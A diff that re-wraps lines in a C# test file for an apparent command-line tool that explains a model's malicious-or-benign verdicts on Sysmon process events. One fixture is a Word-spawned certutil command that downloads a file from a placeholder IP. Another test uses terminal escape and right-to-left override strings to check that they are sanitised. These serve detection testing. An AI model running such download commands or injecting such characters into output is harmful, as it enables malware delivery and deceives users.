@@ -7,8 +7,10 @@ namespace Changeling.Cli.Tests;
 /// <summary>What <c>explain</c> says of one event.</summary>
 public sealed class ExplainTests : IDisposable
 {
-    private static readonly byte[] Ordinary = Telemetry.Record("services.exe", "svchost.exe", @"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule");
-    private static readonly byte[] Attack = Telemetry.Record("winword.exe", "certutil.exe", @"certutil.exe -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt");
+    private static readonly byte[] Ordinary =
+        Telemetry.Record("services.exe", "svchost.exe", @"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule");
+    private static readonly byte[] Attack = Telemetry.Record(
+        "winword.exe", "certutil.exe", @"certutil.exe -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt");
     private static readonly byte[] ProcessEnded =
         """{"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","event_id":"5","computer_name":"ws-0417"}}"""u8.ToArray();
 
@@ -56,7 +58,8 @@ public sealed class ExplainTests : IDisposable
 
         var text = (await Terminal.RunAsync(_folder, "explain", "events.jsonl")).Succeeded().Output;
 
-        Assert.Contains("events.jsonl:2, record 0 – the most likely one: the model classifies none as malicious", text, StringComparison.Ordinal);
+        Assert.Contains(
+            "events.jsonl:2, record 0 – the most likely one: the model classifies none as malicious", text, StringComparison.Ordinal);
     }
 
     [Fact]
@@ -64,7 +67,9 @@ public sealed class ExplainTests : IDisposable
     {
         _folder.Write("events.json", Telemetry.Many(Attack, Ordinary));
 
-        Assert.Equal("svchost.exe", (await JsonAsync("events.json:1", "--record", "1")).GetProperty("event").GetProperty("process.name").GetString());
+        Assert.Equal(
+            "svchost.exe",
+            (await JsonAsync("events.json:1", "--record", "1")).GetProperty("event").GetProperty("process.name").GetString());
         Assert.Equal("certutil.exe", (await JsonAsync("events.json:1")).GetProperty("event").GetProperty("process.name").GetString());
     }
 
@@ -87,7 +92,10 @@ public sealed class ExplainTests : IDisposable
         var prediction = (await JsonAsync("one.json")).GetProperty("prediction");
         var score = Assert.Single(ScoreLine.Of(await Terminal.RunAsync(_folder, "score", "one.json")));
 
-        var sum = prediction.GetProperty("reasons").EnumerateArray().Sum(r => r.GetProperty("weight").GetDouble()) + prediction.GetProperty("expectation").GetDouble();
+        var sum = prediction.GetProperty("reasons")
+            .EnumerateArray()
+            .Sum(r => r.GetProperty("weight").GetDouble()) + prediction.GetProperty("expectation")
+            .GetDouble();
         Assert.Equal(prediction.GetProperty("margin").GetDouble(), sum, 1e-3);
         Assert.Equal(score.Probability, prediction.GetProperty("probability").GetDouble());
     }
@@ -95,7 +103,8 @@ public sealed class ExplainTests : IDisposable
     [Fact]
     public async Task A_control_character_or_a_turn_of_the_reading_direction_never_reaches_the_terminal()
     {
-        _folder.Write("one.json", Telemetry.Record("expl\u202eorer.exe", "a\u001b[31mb.exe", "a\u001b[31mb.exe \u009b2J \u202e [red]x[/] {0}"));
+        _folder.Write(
+            "one.json", Telemetry.Record("expl\u202eorer.exe", "a\u001b[31mb.exe", "a\u001b[31mb.exe \u009b2J \u202e [red]x[/] {0}"));
 
         var text = (await Terminal.RunAsync(_folder, "explain", "one.json")).Succeeded().Output;
 
